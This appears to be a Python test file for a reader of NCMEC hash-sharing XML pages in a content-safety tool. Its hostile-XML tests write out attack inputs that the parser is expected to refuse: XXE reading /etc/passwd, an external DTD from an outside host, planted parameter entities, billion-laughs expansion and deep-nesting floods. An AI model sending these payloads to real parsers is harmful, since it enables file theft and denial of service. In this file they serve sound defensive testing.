"""NCMEC hash-sharing XML pages, including hostile XML.

The sample pages are written here from the element layout described in
docs/list-formats.md; no real NCMEC response or third-party test file is copied.
"""

from __future__ import annotations

import tempfile
from pathlib import Path

from tests.lists.format_samples import (
    as_stream,
    errors,
    md5_of,
    pdq_of,
    records,
    sha1_of,
    single_error,
    warnings_of,
)
from vigil.lists.formats import ListRecord, RecordError, SignalType, read_ncmec_xml
from vigil.lists.formats.ncmec_xml import read_ncmec_page

NAMESPACE = "https://hashsharing.ncmec.org/hashsharing/v2"


# The page-level errors this reader gives for a refused document: its own DOCTYPE refusal, or
# "malformed XML" when libxml2 stops the document first (which libxml2 version does depends on
# its own limits, so the tests assert the refusal, not libxml2's wording).
OWN_REFUSALS = ("DOCTYPE declarations are refused", "malformed XML")


def _refused(items: list[object]) -> RecordError:
    """The whole page was refused: one error of ours, no record read from it."""
    assert records(items) == [] and warnings_of(items) == [], items
    [error] = items
    assert isinstance(error, RecordError)
    assert error.message.startswith(OWN_REFUSALS), error
    return error


def _page(body: str, *, prolog: str = '<?xml version="1.0" encoding="UTF-8"?>\n') -> bytes:
    return f'{prolog}<queryResult xmlns="{NAMESPACE}">\n{body}</queryResult>\n'.encode()


def _image(entry_id: str, fingerprints: str, classification: str = "A1") -> str:
    return (
        "    <image>\n"
        '      <member id="7">Test Member</member>\n'
        "      <timestamp>2024-01-02T03:04:05Z</timestamp>\n"
        f"      <id>{entry_id}</id>\n"
        f"      <classification>{classification}</classification>\n"
        f"      <fingerprints>{fingerprints}</fingerprints>\n"
        "    </image>\n"
    )


SAMPLE = _page(
    '  <images count="3" maxTimestamp="2024-01-02T03:04:05Z">\n'
    + _image("img-1", f"<md5>{md5_of(1).upper()}</md5><sha1>{sha1_of(1)}</sha1>")
    + _image("img-2", f"<pdq>{pdq_of(1)}</pdq><pdna>opaque,photodna,values</pdna>", "B2")
    + '    <deletedImage><member id="7">Test Member</member><id>img-0</id></deletedImage>\n'
    + "  </images>\n"
    + '  <videos count="2" maxTimestamp="2024-01-02T03:04:05Z">\n'
    + '    <video><member id="8">Other</member><id>vid-1</id>'
    + f"<fingerprints><md5>{md5_of(2)}</md5></fingerprints></video>\n"
    + '    <deletedVideo><member id="8">Other</member><id>vid-0</id></deletedVideo>\n'
    + "  </videos>\n"
    + "  <paging><next>/v2/entries?from=x&amp;start=2</next></paging>\n"
)


def test_sample_page_yields_every_fingerprint_and_deletion() -> None:
    items = list(read_ncmec_xml(as_stream(SAMPLE)))
    assert errors(items) == []
    assert records(items) == [
        ListRecord(SignalType.MD5, md5_of(1), "7-img-1", "A1"),
        ListRecord(SignalType.SHA1, sha1_of(1), "7-img-1", "A1"),
        ListRecord(SignalType.PDQ, pdq_of(1), "7-img-2", "B2"),
        ListRecord(None, None, "7-img-0", deleted=True),
        ListRecord(SignalType.MD5, md5_of(2), "8-vid-1"),
        ListRecord(None, None, "8-vid-0", deleted=True),
    ]
    assert [r.position for r in records(items)] == [4, 4, 11, 18, 21, 22]
    [warning] = warnings_of(items)
    assert "pdna" in warning.message


def test_bad_fingerprints_are_reported_and_the_rest_imports() -> None:
    body = (
        "<images>"
        + _image("a", f"<md5>{md5_of(1)[:-1]}</md5><sha1>{sha1_of(1)}</sha1>")
        + _image("b", f"<pdq>{'0' * 64}</pdq>")
        + _image("c", "<pdna>only-photodna</pdna>")
        + "<image><member id='9'/><fingerprints><md5>"
        + md5_of(3)
        + "</md5></fingerprints></image>"
        + _image("d", f"<md5>{md5_of(4)}</md5>")
        + _image("e</id><id>f", f"<md5>{md5_of(5)}</md5>")
        + "</images>"
    )
    items = list(read_ncmec_xml(as_stream(_page(body))))
    assert [r.external_id for r in records(items)] == ["7-a", "7-d"]
    messages = [e.message for e in errors(items)]
    assert "32 hex digits" in messages[0]
    assert "too small" in messages[1]
    assert "no supported fingerprint" in messages[2]
    assert "no id" in messages[3]
    assert "2 <id> elements" in messages[4]


def test_pdq_on_a_video_is_not_taken_as_an_image_hash() -> None:
    body = (
        "<videos><video><member id='1'/><id>v</id>"
        f"<fingerprints><pdq>{pdq_of(1)}</pdq><md5>{md5_of(1)}</md5></fingerprints>"
        "</video></videos>"
    )
    items = list(read_ncmec_xml(as_stream(_page(body))))
    assert records(items) == [ListRecord(SignalType.MD5, md5_of(1), "1-v")]
    assert len(warnings_of(items)) == 1


def test_page_without_namespace_or_entries() -> None:
    bare = b"<queryResult><images/></queryResult>"
    assert list(read_ncmec_xml(as_stream(bare))) == []


def test_xxe_is_refused_and_nothing_is_read_from_disk() -> None:
    hostile = (
        b'<?xml version="1.0"?>\n'
        b'<!DOCTYPE queryResult [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
        b"<queryResult><images><image><member id='1'/><id>&xxe;</id>"
        b"<fingerprints><md5>" + md5_of(1).encode() + b"</md5></fingerprints>"
        b"</image></images></queryResult>"
    )
    items = list(read_ncmec_xml(as_stream(hostile)))
    _refused(items)
    assert "root:" not in repr(items)


def test_external_entity_in_a_parameter_dtd_is_refused() -> None:
    hostile = (
        b'<?xml version="1.0"?>\n<!DOCTYPE r SYSTEM "http://192.0.2.1/evil.dtd">\n<queryResult/>'
    )
    _refused(list(read_ncmec_xml(as_stream(hostile))))


def test_parameter_entities_pulling_a_local_dtd_are_refused() -> None:
    with tempfile.TemporaryDirectory() as folder:
        dtd = Path(folder) / "planted.dtd"
        dtd.write_text('<!ENTITY planted "PLANTED-CONTENT">')
        hostile = (
            '<?xml version="1.0"?>\n'
            f'<!DOCTYPE queryResult [<!ENTITY % p SYSTEM "{dtd.as_uri()}"> %p;]>\n'
            "<queryResult><images><image><id>&planted;</id></image></images></queryResult>"
        ).encode()
        items = list(read_ncmec_xml(as_stream(hostile)))
    _refused(items)
    assert "PLANTED" not in repr(items)


def test_billion_laughs_is_refused() -> None:
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    hostile = (
        f'<?xml version="1.0"?>\n<!DOCTYPE queryResult [<!ENTITY l0 "lol">{entities}]>\n'
        "<queryResult><images><image><id>&l9;</id></image></images></queryResult>"
    ).encode()
    items = list(read_ncmec_xml(as_stream(hostile)))
    error = _refused(items)
    assert "lollol" not in repr(items)  # nothing was expanded into the error either
    assert len(error.message) < 500 and len(error.raw_excerpt) < 500


def test_deep_nesting_fails_cleanly() -> None:
    hostile = b"<queryResult>" + b"<a>" * 5000 + b"</a>" * 5000 + b"</queryResult>"
    _refused(list(read_ncmec_xml(as_stream(hostile))))


def test_deep_nesting_inside_an_entry_fails_at_the_libxml2_depth_limit() -> None:
    hostile = b"<queryResult><images><image>" + b"<x>" * 300 + b"</x>" * 300
    hostile += b"</image></images></queryResult>"
    _refused(list(read_ncmec_xml(as_stream(hostile))))


def test_oversized_input_stops_at_the_byte_limit() -> None:
    entries = 2000
    body = "".join(_image(f"e{n}", f"<md5>{md5_of(n)}</md5>") for n in range(entries))
    page = _page(f"<images>{body}</images>")
    items = list(read_ncmec_xml(as_stream(page), max_bytes=len(page) // 2))
    assert 0 < len(records(items)) < entries
    assert "larger than" in errors(items)[-1].message


def test_an_entry_with_too_many_elements_stops_the_page() -> None:
    flood = "<feedback>" + "<m/>" * 10_001 + "</feedback>"
    page = _page(f"<images><image><id>x</id>{flood}</image></images>")
    error = single_error(read_ncmec_xml(as_stream(page)))
    assert "more than 10000 elements" in error.message


def test_truncated_page_keeps_the_entries_before_the_break() -> None:
    cut = SAMPLE[: SAMPLE.index(b"<videos")]
    items = list(read_ncmec_xml(as_stream(cut)))
    assert len(records(items)) == 4
    assert "malformed XML" in errors(items)[-1].message


def test_wrong_root_empty_input_and_bad_encoding() -> None:
    wrong = single_error(read_ncmec_xml(as_stream(b"<status><member id='1'>x</member></status>")))
    assert "expected 'queryResult'" in wrong.message
    empty = single_error(read_ncmec_xml(as_stream(b"")))
    assert "malformed XML" in empty.message
    latin = b"<queryResult><images><image><id>caf\xe9</id></image></images></queryResult>"
    bad_bytes = single_error(read_ncmec_xml(as_stream(latin)))
    assert "malformed XML" in bad_bytes.message
    utf16 = '<?xml version="1.0" encoding="UTF-16"?><queryResult/>'.encode("utf-16")
    assert list(read_ncmec_xml(as_stream(utf16))) == []  # well-formed UTF-16 is still XML


def test_a_page_for_the_hash_sharing_client_has_its_link_and_provenance() -> None:
    page = read_ncmec_page(as_stream(SAMPLE))
    assert page.failure is None
    assert page.next_link == "/v2/entries?from=x&start=2"
    first, *_ = records(list(page.items))
    assert (first.member, first.tags) == ("Test Member", ("image",))
    video = next(r for r in records(list(page.items)) if r.external_id == "8-vid-1")
    assert (video.member, video.tags) == ("Other", ("video",))


def test_a_page_that_cannot_be_read_is_a_failure_not_an_item() -> None:
    cut = read_ncmec_page(as_stream(SAMPLE[: SAMPLE.index(b"<videos")]))
    assert cut.failure is not None and "malformed XML" in cut.failure.message
    assert errors(list(cut.items)) == []
    wrong = read_ncmec_page(as_stream(b"<status/>"))
    assert wrong.failure is not None and wrong.next_link is None


def test_unsupported_fingerprints_are_counted_once_per_type() -> None:
    body = "".join(_image(f"e{n}", f"<md5>{md5_of(n)}</md5><pdna>1,2</pdna>") for n in range(5))
    items = list(read_ncmec_xml(as_stream(_page(f"<images>{body}</images>"))))
    [warning] = warnings_of(items)
    assert "'pdna'" in warning.message and "5 fingerprints ignored" in warning.message


def _hostile_pages() -> dict[str, bytes]:
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    flood = "<feedback>" + "<m/>" * 10_001 + "</feedback>"
    return {
        "xxe": b'<?xml version="1.0"?>\n'
        b'<!DOCTYPE queryResult [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
        b"<queryResult><images><image><member id='1'/><id>&xxe;</id>"
        b"<fingerprints><md5>" + md5_of(1).encode() + b"</md5></fingerprints>"
        b"</image></images></queryResult>",
        "external dtd": b'<!DOCTYPE r SYSTEM "http://192.0.2.1/evil.dtd">\n<queryResult/>',
        "billion laughs": (
            f'<?xml version="1.0"?>\n<!DOCTYPE queryResult [<!ENTITY l0 "lol">{entities}]>\n'
            "<queryResult><images><image><id>&l9;</id></image></images></queryResult>"
        ).encode(),
        "deep": b"<queryResult>" + b"<a>" * 5000 + b"</a>" * 5000 + b"</queryResult>",
        "deep entry": b"<queryResult><images><image>"
        + b"<x>" * 300
        + b"</x>" * 300
        + b"</image></images></queryResult>",
        "element flood": _page(f"<images><image><id>x</id>{flood}</image></images>"),
        "empty": b"",
        "not utf-8": b"<queryResult><images><image><id>caf\xe9</id></image></images></queryResult>",
        "wrong root": b"<status><member id='1'>x</member></status>",
    }


def test_the_page_reader_refuses_what_the_file_reader_refuses() -> None:
    # The page reader parses a page whole rather than streaming it: the same hostile
    # documents must fail the page, with nothing read from them or expanded into the error.
    for name, hostile in _hostile_pages().items():
        page = read_ncmec_page(as_stream(hostile))
        assert page.failure is not None, name
        assert page.items == () and page.next_link is None, name
        assert "root:" not in page.failure.message and "lollol" not in page.failure.message
        assert len(page.failure.message) < 500, name
    big = read_ncmec_page(as_stream(SAMPLE), max_bytes=len(SAMPLE) - 1)
    assert big.failure is not None and "larger than" in big.failure.message


def test_the_page_reader_reads_what_the_file_reader_reads() -> None:
    body = "".join(_image(f"e{n}", f"<md5>{md5_of(n)}</md5><pdna>1,2</pdna>") for n in range(5))
    for document in (SAMPLE, _page(f"<images>{body}</images><paging><next>/n</next></paging>")):
        streamed = [
            item if not isinstance(item, ListRecord) else (item.signal, item.external_id)
            for item in read_ncmec_xml(as_stream(document))
        ]
        page = read_ncmec_page(as_stream(document))
        assert page.failure is None
        parsed = [
            item if not isinstance(item, ListRecord) else (item.signal, item.external_id)
            for item in page.items
        ]
        assert parsed == streamed
